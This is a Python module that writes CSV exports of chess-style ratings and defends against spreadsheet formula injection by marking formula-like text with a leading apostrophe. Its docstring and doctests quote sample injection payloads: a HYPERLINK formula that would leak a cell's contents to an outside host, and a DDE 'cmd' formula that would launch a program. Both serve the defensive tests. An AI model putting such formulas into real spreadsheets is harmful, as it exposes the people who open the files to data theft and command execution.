"""Writing CSV for a spreadsheet: the one writer of every CSV elo_core gives (the ladder's ranking and a player's
history, `elo-core ladder --csv` and `--history`, the tournament report's table that the widget downloads).

- Separators: `,`; `;`, with decimal commas (as German or French Excel reads a file); a tab.
- Quoting as RFC 4180: a cell that holds a separator (any of the three, not only the one written: a German
  Excel splits a comma file on its semicolons), a double quote or a line break is quoted, its quotes doubled.
- Formulas kept as text (OWASP, "CSV Injection"): a text cell that a spreadsheet would run as a formula, one
  that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, is written with a leading apostrophe, which
  Excel, LibreOffice and Google Sheets read as "this is text". A player named `=HYPERLINK("http://x"&A1,"Click")`
  is then shown as his name, not as a link. A text that looks like a number gets it too: a player named `+1` or
  `-5` is a name, which Excel would read as the number 1 or -5 (the name lost); a number given as a number
  (`-12.5`) is written as it is.
- Lines end with CRLF (RFC 4180), in every file alike.
- Cells: text; numbers (unrounded, as Python writes them, a whole float without `.0`); `yes`/`no` for a
  boolean; nothing for None.
- Text cells at most `MAX_CELL` characters, Excel's limit ("Excel specifications and limits": 32,767 characters
  in a cell): a longer one is cut, its last character an ellipsis (`…`). Excel, given a longer cell, carries the
  rest into the cells and rows after it, so the whole table below it is shifted. Cut, not refused: a club that
  downloads its ranking wants the file, and one cell of pasted junk in a name or a note should not cost it every
  other row; the ellipsis says that the cell was cut.
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable, Sequence
from typing import Any

from ..words.errors import show
from . import Problems, read_choice

SEPARATORS = (",", ";", "\t")
"""The separators written: comma (the default), semicolon (decimal commas), tab."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""A text cell starting with one of these, after any spaces, is run as a formula by a spreadsheet (OWASP's list,
and their full-width forms)."""
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
"""Text a spreadsheet reads as a number (`12.5`, `7,4`): quoted only for the separator written (`_quoted`)."""
MAX_CELL = 32_767
"""The most characters a text cell is written with (Excel's limit; it counts UTF-16 units, as it stores them)."""
ELLIPSIS = "\u2026"
"""The last character of a cell that was cut."""
NEWLINE = "\r\n"
"""Every line's end, in every CSV written (the ladder's, the CLI's, the report's): CRLF, as RFC 4180 writes it, so
that one club's two downloads do not differ; every spreadsheet reads it."""


def _utf16_length(text: str) -> int:
    """The length Excel counts: a character beyond U+FFFF (an emoji) is two."""
    return len(text) + sum(1 for char in text if char > "\uffff")


def capped(text: str) -> str:
    """`text`, or when it is over `MAX_CELL` UTF-16 units, its start and an ellipsis, `MAX_CELL` units in all
    (never half of a character beyond U+FFFF).

    >>> len(capped("x" * 40_000)), capped("x" * 40_000)[-2:], capped("Anna")
    (32767, 'x…', 'Anna')
    """
    if len(text) <= MAX_CELL // 2 or _utf16_length(text) <= MAX_CELL:  # the first test spares a count of most cells
        return text
    room, kept = MAX_CELL - len(ELLIPSIS), 0
    for i, char in enumerate(text):
        kept += 2 if char > "\uffff" else 1
        if kept > room:
            return text[:i] + ELLIPSIS
    return text  # not reached: the text is over MAX_CELL units


def cell(value: Any, separator: str = ",") -> str:
    """A cell's text before quoting: numbers with a decimal comma under `;`, formulas kept as text, text cut to
    `MAX_CELL` characters.

    >>> cell(1512.25, ";"), cell(3.0), cell(True), cell(None), cell(-12.5), cell("=1+1"), cell("+1")
    ('1512,25', '3', 'yes', '', '-12.5', "'=1+1", "'+1")
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, float):
        text = repr(int(value)) if value.is_integer() else repr(value)
        return text.replace(".", ",") if separator == ";" else text
    if isinstance(value, int):
        return str(value)
    text = str(value)
    # Text, even one that looks like a number ("+1", a name): a number came as an int or a float, above.
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        text = "'" + text  # before the cut: the apostrophe is in the cell, so it counts
    return capped(text)


def _quoted(text: str, separator: str, written: bool = False) -> str:
    """RFC 4180: a field holding a separator, a quote or a line break in quotes, its quotes doubled. A number
    (`written` here, `1512,25` under `;`, or text that is one) is quoted only for its own separator."""
    marks = (separator,) if written else SEPARATORS
    if any(mark in text for mark in marks) or '"' in text or "\n" in text or "\r" in text:
        return '"' + text.replace('"', '""') + '"'
    return text


def write_csv(rows: Iterable[Sequence[Any]], separator: str = ",") -> str:
    """Rows of cells (the first one a header, as the caller gives it) as CSV text, each line ended by `NEWLINE`.

    >>> write_csv([["name", "rating"], ["Meier, Anna", 1512.25], ["=cmd|' /C calc'!A0", -7.5]], ";").splitlines()
    ['name;rating', '"Meier, Anna";1512,25', "'=cmd|' /C calc'!A0;-7,5"]
    """
    if separator not in SEPARATORS:
        raise ValueError(f"expected the separator to be one of , ; or a tab, got {show(separator)}")
    return "".join(separator.join(_quoted(text := cell(value, separator), separator,
                                          not isinstance(value, str) or bool(_PLAIN_NUMBER.fullmatch(text)))
                                  for value in row) + NEWLINE
                   for row in rows)


def _read_table(value: Any, problems: Problems) -> list[list[Any]] | None:
    """`table`: a list of rows, each a list of cells (text, a finite number, a boolean or null); None, and the
    first cell that is none of these in `problems`."""
    if not isinstance(value, list):
        problems.add("table", "not_a_list", f"expected table to be a list of rows, got {show(value)}",
                     value=show(value))
        return None
    for i, row in enumerate(value):
        if not isinstance(row, list):
            problems.add(f"table[{i}]", "not_a_list", f"expected table[{i}] to be a row (a list of cells), got "
                         f"{show(row)}", value=show(row))
            return None
        for j, item in enumerate(row):
            if not (item is None or isinstance(item, (str, int, float))) or (
                    isinstance(item, float) and not math.isfinite(item)):
                problems.add(f"table[{i}][{j}]", "not_a_choice", f"expected table[{i}][{j}] to be text, a "
                             f"finite number or null, got {show(item)}", value=show(item))
                return None
    return value


def table_csv(request: Any) -> dict[str, Any]:
    """A table as the CSV file a browser saves; never raises. Request: `{"table": [[header cells], [cells], ...],
    "separator": "," (default) | ";" | tab}`, a cell text, a number or null. Answer: `{"ok": true, "csv": <text>}`
    (CRLF line ends), or `{"ok": false, "errors": [...]}` as `calculate` answers.

    >>> table_csv({"table": [["name", "change"], ["@Anna", -7.4]]})["csv"]
    "name,change\\r\\n'@Anna,-7.4\\r\\n"
    """
    problems = Problems()
    if not isinstance(request, dict):
        problems.add("", "not_an_object", "expected the request to be an object")
        return {"ok": False, "errors": problems.items}
    separator = read_choice(request, "separator", "separator", SEPARATORS, problems)
    table = _read_table(request.get("table"), problems)
    if problems or table is None:
        return {"ok": False, "errors": problems.items}
    return {"ok": True, "csv": write_csv(table, separator)}
